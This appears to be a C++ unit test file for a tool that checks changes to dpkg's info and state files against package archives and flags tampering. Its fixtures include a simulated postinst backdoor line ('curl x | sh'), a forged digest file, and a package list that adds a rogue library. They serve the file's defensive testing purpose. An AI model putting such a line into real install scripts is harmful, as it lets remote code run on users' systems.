// The verdicts of the package manager's own files, over package records
// built in memory: what dpkg keeps of a package under its info directory,
// checked against the package's archive (its control member, or for the
// list its data member's paths), and dpkg's state, which counts only
// beside an operation that an archive proves. Each row at two levels:
// without the archives (dpkg) and with them (archive).
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <climits>
#include <cstring>
#include <string>
#include <vector>

#include "explain/explain.h"
#include "sha1/sha1.h"
#include "testutil/pkg_fake.h"
#include "testutil/testutil.h"

namespace {

struct rec_want {
  uint16_t mode;
  std::string data;  // a regular file's contents
};

const uint16_t R = S_IFREG | 0644, X = S_IFREG | 0755;
const char *const POSTINST_10 = "#!/bin/sh\necho 1.0\n",
                  *const POSTINST = "#!/bin/sh\necho 1.1\n",
                  *const PREINST_10 = "#!/bin/sh\nexit 0\n",
                  *const SUMS = "0123  usr/bin/tool\n",
                  *const LIBX = "#!/bin/sh\necho libx\n",
                  *const IDLE = "#!/bin/sh\necho idle\n",
                  *const GONE = "#!/bin/sh\necho gone\n";
// tools 1.1's list as dpkg writes it, in the archive's order.
const char *const LIST = "/.\n/usr/bin/tool\n/usr/lib/tools/plugin.so\n";

enum level { DPKG, ARCHIVE };

// A night: tools upgraded from 1.0 to 1.1, which drops its preinst; nosums
// upgraded, its archive without digests of its own; libx, of more than one
// architecture, upgraded; gone removed; idle installed long before. At
// the archive level every version but idle's 3 has its archive at hand.
pkg_fake
world(const std::string &root, level lv)
{
  pkg_fake f;
  f.pf_root = root;
  auto para = [](const char *name, const char *version,
                 const char *status = "install ok installed") {
    return std::string("Package: ") + name + "\nStatus: " + status +
           "\nArchitecture: amd64\nVersion: " + version + "\n\n";
  };
  f.pf_status = para("tools", "1.1") + para("nosums", "2") + para("libx", "2") +
                para("idle", "3") +
                para("gone", "2", "deinstall ok config-files");
  f.pf_log =
      "2026-01-02 10:00:00 upgrade tools:amd64 1.0 1.1\n"
      "2026-01-02 10:00:01 upgrade nosums:amd64 1 2\n"
      "2026-01-02 10:00:02 upgrade libx:amd64 1 2\n"
      "2026-01-02 10:00:03 remove gone:amd64 2 <none>\n";
  pkg_fake_put(root, "/var/lib/dpkg/info/.keep", "");
  if (lv == ARCHIVE) {
    f.pf_archives = {
        {"tools",
         "1.1",
         "amd64",
         {{"/usr/bin/tool", X, 0, 0, "tool 1.1\n"},
          {"/usr/lib/tools/plugin.so", R, 0, 0, "plugin\n"}},
         {{"postinst", X, 0, 0, POSTINST},
          {"md5sums", R, 0, 0, SUMS},
          {"control", R, 0, 0, "Package: tools\n"}}},
        {"tools",
         "1.0",
         "amd64",
         {{"/usr/bin/tool", X, 0, 0, "tool 1.0\n"}},
         {{"postinst", X, 0, 0, POSTINST_10},
          {"preinst", X, 0, 0, PREINST_10}}},
        {"nosums", "2", "amd64", {{"/usr/bin/n", X, 0, 0, "n\n"}}},
        {"libx",
         "2",
         "amd64",
         {{"/usr/lib/libx.so", R, 0, 0, "x\n"}},
         {{"postinst", X, 0, 0, LIBX}}},
        {"idle", "3", "amd64", {}, {{"postinst", X, 0, 0, IDLE}}},
        {"gone", "2", "amd64", {}, {{"postinst", X, 0, 0, GONE}}},
    };
  }
  return f;
}

// verdict evidence [package [version]] [<older]: expected
std::string
verdict_text(const xp_path &p)
{
  std::string s = std::string(XP_VERDICT_WORDS[p.xp_verdict]) + " " +
                  XP_EVIDENCE_WORDS[p.xp_evidence];
  if (!p.xp_package.empty())
    s += " " + p.xp_package;
  if (!p.xp_version.empty())
    s += " " + p.xp_version;
  if (!p.xp_older.empty())
    s += " <" + p.xp_older;
  if (!p.xp_expected.empty())
    s += ": " + p.xp_expected;
  return s;
}

class XpOwn : public TmpDirTest {
 protected:
  void SetUp() override
  {
    TmpDirTest::SetUp();
    root_ = dir_ + "/root";
  }
  std::vector<xp_path> explain(level lv, std::vector<xp_path> paths)
  {
    std::string err;
    pkg_db *db = pkg_fake_open(world(root_, lv), &err);
    EXPECT_NE(nullptr, db) << err;
    if (db == nullptr)
      return {};
    xp_notes notes;
    xp_explain(db, root_, pkg_fake_time("2026-01-02 00:00:00"),
               pkg_fake_time("2026-01-03 00:00:00"), nullptr, &paths, &notes);
    EXPECT_TRUE(notes.xn_failed.empty()) << notes.xn_failed[0];
    pkg_close(db);
    return paths;
  }
  // A path changed (older and newer), new or deleted; a regular file's
  // newer contents are put on disk.
  xp_path path_of(const std::string &host, const rec_want *older,
                  const rec_want *newer)
  {
    xp_path p;
    p.xp_name = root_ + host;
    p.xp_kind = older == nullptr   ? DB_KIND_NEW
                : newer == nullptr ? DB_KIND_DELETED
                                   : DB_KIND_CHANGED;
    auto rec = [](const rec_want &w, uint64_t ino) {
      db_rec r;
      memset(&r, 0, sizeof r);
      r.ino = ino;
      r.mode = w.mode;
      r.links = 1;
      r.ctime = 1767225600;
      r.size = int64_t(w.data.size());
      sha_buf(w.data.data(), int32_t(w.data.size()), r.csum);
      r.mask = uint16_t(DB_ALL);
      return r;
    };
    if (older != nullptr)
      p.xp_recs[0] = rec(*older, 1);
    if (newer != nullptr) {
      p.xp_recs[older != nullptr ? 1 : 0] = rec(*newer, 2);
      if (S_ISREG(newer->mode))
        pkg_fake_put(root_, host, newer->data);
    }
    return p;
  }
  std::string root_;
};

const std::string INFO = "/var/lib/dpkg/info/";

}  // namespace

// Each row: one file of the info directory and its verdict at each level.
TEST_F(XpOwn, InfoFiles) {
  const rec_want post10{X, POSTINST_10}, post{X, POSTINST};
  const rec_want backdoor{X, std::string(POSTINST) + "curl x | sh\n"};
  const rec_want post_suid{S_IFREG | 04755, POSTINST};
  const rec_want post_oplus{S_IFREG | 0757, POSTINST};
  const rec_want list{R, LIST};
  const rec_want list_order{R, "/usr/lib/tools/plugin.so\n/.\n/usr/bin/tool\n"};
  const rec_want list_more{R, std::string(LIST) + "/usr/lib/libevil.so\n"};
  const rec_want list_less{R, "/.\n/usr/bin/tool\n"};
  const rec_want sums{R, SUMS}, sums_forged{R, "4567  usr/bin/tool\n"};
  const rec_want libx{X, LIBX}, idle_old{X, "old\n"}, idle{X, IDLE};
  const rec_want gone{X, GONE}, preinst{X, PREINST_10};
  const rec_want control{R, "Package: tools\n"}, any{R, "x\n"};
  const std::string tools_post =
      "the control member postinst of tools 1.1's "
      "archive";
  const std::string tools_list = "the paths of tools 1.1's archive";
  const std::string plain =
      ": a regular file, neither set-user-ID nor set-group-ID nor writable "
      "by others, as dpkg writes its files";
  const std::string own = "claimed dpkg (package manager): ";
  const struct {
    const char *what;
    std::string path;
    const rec_want *older, *newer;
    std::string dpkg, archive;
    bool changed_since = false;  // the file changed on disk since
  } rows[] = {
      {"a postinst as the archive has it", INFO + "tools.postinst", &post10,
       &post, own + tools_post + " (none at hand)",
       "package archive tools 1.1 <1.0"},
      // A backdoor on a night with a genuine upgrade of the package.
      {"a postinst with a line added", INFO + "tools.postinst", &post10,
       &backdoor, own + tools_post + " (none at hand)",
       "unexplained archive tools 1.1: " + tools_post},
      {"a postinst made set-user-ID", INFO + "tools.postinst", &post10,
       &post_suid, "unexplained dpkg tools 1.1" + plain,
       "unexplained dpkg tools 1.1" + plain},
      {"a postinst writable by others", INFO + "tools.postinst", &post10,
       &post_oplus, "unexplained dpkg tools 1.1" + plain,
       "unexplained dpkg tools 1.1" + plain},
      {"a new list as the archive's paths", INFO + "tools.list", nullptr, &list,
       own + tools_list + " (none at hand)", "package archive tools 1.1 <1.0"},
      {"the list in another order", INFO + "tools.list", nullptr, &list_order,
       own + tools_list + " (none at hand)", "package archive tools 1.1 <1.0"},
      // A library slipped into the package's list would pass for its own.
      {"a list with a path added", INFO + "tools.list", &list, &list_more,
       own + tools_list + " (none at hand)",
       "unexplained archive tools 1.1: " + tools_list +
           " (not /usr/lib/libevil.so)"},
      {"a list with a path dropped", INFO + "tools.list", &list, &list_less,
       own + tools_list + " (none at hand)",
       own + tools_list +
           " (the list lacks some, as when another package took them over)"},
      {"a list changed since the snapshot", INFO + "tools.list", nullptr, &list,
       own + tools_list + " (none at hand)",
       own + "the file as the newer snapshot holds it (it has changed or gone "
             "since)",
       true},
      {"the digests as the archive has them", INFO + "tools.md5sums", &any,
       &sums,
       own + "the control member md5sums of tools 1.1's archive (none at "
             "hand)",
       "package archive tools 1.1 <1.0"},
      // A trojan's digest rewritten in the package's digests.
      {"the digests rewritten", INFO + "tools.md5sums", &sums, &sums_forged,
       own + "the control member md5sums of tools 1.1's archive (none at "
             "hand)",
       "unexplained archive tools 1.1: the control member md5sums of tools "
       "1.1's archive"},
      {"the digests dpkg made for an archive without", INFO + "nosums.md5sums",
       &any, &sums,
       own + "the control member md5sums of nosums 2's archive (none at hand)",
       own + "the control member md5sums of nosums 2's archive (it has none: "
             "dpkg made the file)"},
      {"a control file the archive has not", INFO + "tools.config", nullptr,
       &post,
       own + "the control member config of tools 1.1's archive (none at "
             "hand)",
       "unexplained archive tools 1.1: the control member config of tools "
       "1.1's archive (it has none)"},
      {"the control file, which dpkg never keeps", INFO + "tools.control",
       nullptr, &control,
       own + "the control member control of tools 1.1's archive (none at "
             "hand)",
       "unexplained archive tools 1.1: the control member control of tools "
       "1.1's archive (it has none)"},
      {"a name with its architecture", INFO + "libx:amd64.postinst", nullptr,
       &libx,
       own + "the control member postinst of libx 2's archive (none at hand)",
       "package archive libx 2 <1"},
      {"a package with no operation in between", INFO + "idle.postinst",
       &idle_old, &idle,
       own + "the control member postinst of idle 3's archive (none at hand)",
       "unexplained archive idle 3: an install, upgrade or reinstall of idle "
       "3 between the snapshots (none)"},
      {"a removed package's file, new", INFO + "gone.postinst", nullptr, &gone,
       own + "an installed version of gone, whose archive would hold it (only "
             "its configuration files are left)",
       own + "an installed version of gone, whose archive would hold it (only "
             "its configuration files are left)"},
      {"a package dpkg has no records of", INFO + "ghost.postinst", nullptr,
       &post,
       "unexplained dpkg (package manager): a file of a package that dpkg has "
       "records of (none is ghost)",
       "unexplained dpkg (package manager): a file of a package that dpkg has "
       "records of (none is ghost)"},
      {"a name that is no package's file", INFO + "evil", nullptr, &post,
       "unexplained dpkg (package manager): a file the package manager keeps "
       "(it keeps none of this name)",
       "unexplained dpkg (package manager): a file the package manager keeps "
       "(it keeps none of this name)"},
      {"a file in dpkg's directory it does not keep", "/var/lib/dpkg/evil",
       nullptr, &post,
       "unexplained dpkg (package manager): a file the package manager keeps "
       "(it keeps none of this name)",
       "unexplained dpkg (package manager): a file the package manager keeps "
       "(it keeps none of this name)"},
      {"a name that merely begins as a directory of dpkg's",
       "/var/lib/dpkg/updatesx", nullptr, &post,
       "unexplained dpkg (package manager): a file the package manager keeps "
       "(it keeps none of this name)",
       "unexplained dpkg (package manager): a file the package manager keeps "
       "(it keeps none of this name)"},
      {"a removed package's postinst, deleted", INFO + "gone.postinst", &gone,
       nullptr, own + "the control member postinst of gone 2's archive",
       "package archive gone <2"},
      {"a removed package's list, deleted", INFO + "gone.list", &list, nullptr,
       own + "the paths of gone 2's archive", "package archive gone <2"},
      {"a file the removed version had not, deleted", INFO + "gone.config",
       &post, nullptr, own + "the control member config of gone 2's archive",
       own + "the control member config of gone 2's archive"},
      {"a preinst the upgrade dropped, deleted", INFO + "tools.preinst",
       &preinst, nullptr,
       own + "the control member preinst of tools 1.0's "
             "archive",
       "package archive tools 1.1 <1.0"},
      {"a file of a package with no operation, deleted", INFO + "idle.postinst",
       &idle, nullptr,
       "unexplained dpkg idle: a removal or upgrade of idle between the "
       "snapshots (none)",
       "unexplained dpkg idle: a removal or upgrade of idle between the "
       "snapshots (none)"},
  };
  for (const auto &r : rows) {
    for (level lv : {DPKG, ARCHIVE}) {
      xp_path p = path_of(r.path, r.older, r.newer);
      if (r.changed_since)
        pkg_fake_put(root_, r.path, "changed since\n");
      std::vector<xp_path> got = explain(lv, {p});
      ASSERT_EQ(1u, got.size()) << r.what;
      EXPECT_EQ(lv == DPKG ? r.dpkg : r.archive, verdict_text(got[0]))
          << r.what << ", at the " << (lv == DPKG ? "dpkg" : "archive")
          << " level";
    }
  }
}

// dpkg's state, its log and apt's files say nothing of themselves that
// can be checked: each is the package manager's when some path of the same
// night is explained by a package's verified archive, and claimed
// otherwise. A change of mode or owner, or a set-user-ID bit, is never
// the package manager's doing.
TEST_F(XpOwn, StateFiles) {
  const rec_want s1{R, "status 1\n"}, s2{R, "status 2\n"};
  const rec_want s2_suid{S_IFREG | 04644, "status 2\n"};
  const rec_want s2_mode{S_IFREG | 0666, "status 2\n"};
  const rec_want post10{X, POSTINST_10}, post{X, POSTINST};
  const rec_want backdoor{X, std::string(POSTINST) + "curl x | sh\n"};
  const std::string proven = "package archive (package manager)";
  const std::string claimed =
      "claimed dpkg (package manager): a package operation proven by a "
      "verified archive between the snapshots (none)";
  const std::string state_paths[] = {"/var/lib/dpkg/status",
                                     "/var/lib/dpkg/status-old",
                                     "/var/lib/dpkg/available",
                                     "/var/lib/dpkg/lock-frontend",
                                     "/var/lib/dpkg/triggers/Unincorp",
                                     "/var/lib/dpkg/updates/0001",
                                     "/var/lib/dpkg/diversions",
                                     "/var/lib/dpkg/statoverride",
                                     "/var/lib/dpkg/alternatives/editor",
                                     "/var/lib/dpkg/info/format",
                                     "/var/log/dpkg.log",
                                     "/var/lib/apt/lists/x_Packages",
                                     "/var/cache/apt/pkgcache.bin",
                                     "/var/lib/dpkg",
                                     "/var/lib/dpkg/info"};
  struct one {
    std::string path;
    const rec_want *older, *newer;
  };
  const struct {
    const char *what;
    std::vector<one> others;  // besides the state file, changed s1 to s2
    level lv;
    std::string want;       // the state file's verdict
    std::string last = "";  // the last other path's, where not ""
  } cases[] = {
      {"a postinst an archive proves",
       {{INFO + "tools.postinst", &post10, &post}},
       ARCHIVE,
       proven},
      {"only logged operations",
       {{INFO + "tools.postinst", &post10, &post}},
       DPKG,
       claimed},
      {"alone", {}, ARCHIVE, claimed},
      {"a postinst that is not the archive's",
       {{INFO + "tools.postinst", &post10, &backdoor}},
       ARCHIVE,
       claimed},
      // The state files explain nothing, each other least of all.
      {"beside other state",
       {{"/var/log/apt/history.log", &s1, &s2}},
       ARCHIVE,
       claimed},
      // Nor does an operation proven raise any claim but the state's.
      {"beside a claimed file of the info directory",
       {{INFO + "tools.postinst", &post10, &post},
        {INFO + "nosums.md5sums", &s1, &s2}},
       ARCHIVE,
       proven,
       "claimed dpkg (package manager): the control member md5sums of nosums "
       "2's archive (it has none: dpkg made the file)"},
  };
  for (const std::string &state : state_paths) {
    for (const auto &c : cases) {
      std::vector<xp_path> paths = {path_of(state, &s1, &s2)};
      for (const one &o : c.others)
        paths.push_back(path_of(o.path, o.older, o.newer));
      std::vector<xp_path> got = explain(c.lv, paths);
      ASSERT_EQ(paths.size(), got.size()) << c.what;
      EXPECT_EQ(c.want, verdict_text(got[0])) << state << ", " << c.what;
      if (!c.last.empty()) {
        EXPECT_EQ(c.last, verdict_text(got.back())) << state << ", " << c.what;
      }
    }
  }
  const struct {
    const char *what;
    const rec_want *older, *newer;
    std::string want;
  } odd[] = {
      {"deleted", &s1, nullptr, proven},
      {"new", nullptr, &s2, proven},
      {"set-user-ID", &s1, &s2_suid,
       "unexplained dpkg (package manager): the mode, owner and extended "
       "attributes as before (the package manager rewrites its files, it "
       "does not change them)"},
      {"new and set-user-ID", nullptr, &s2_suid,
       "unexplained dpkg (package manager): no set-user-ID or set-group-ID "
       "bit"},
      {"writable by all", &s1, &s2_mode,
       "unexplained dpkg (package manager): the mode, owner and extended "
       "attributes as before (the package manager rewrites its files, it "
       "does not change them)"},
  };
  for (const auto &o : odd) {
    std::vector<xp_path> got =
        explain(ARCHIVE, {path_of("/var/lib/dpkg/status", o.older, o.newer),
                          path_of(INFO + "tools.postinst", &post10, &post)});
    ASSERT_EQ(2u, got.size()) << o.what;
    EXPECT_EQ(o.want, verdict_text(got[0])) << o.what;
  }
}
